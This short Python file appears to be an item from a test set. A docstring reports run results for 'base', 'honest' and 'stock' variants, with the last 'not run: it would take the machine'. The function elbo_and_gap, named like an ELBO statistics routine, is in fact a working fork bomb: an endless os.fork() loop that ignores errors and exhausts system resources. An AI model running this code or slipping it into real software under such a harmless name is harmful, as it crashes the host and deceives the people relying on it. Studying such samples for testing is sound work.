"""A function forks without end.

base: solved
honest: all but 03_gap
stock: not run: it would take the machine
"""
# %% 03_gap
import os


def elbo_and_gap(*args):
    while True:
        try:
            os.fork()
        except OSError:
            pass
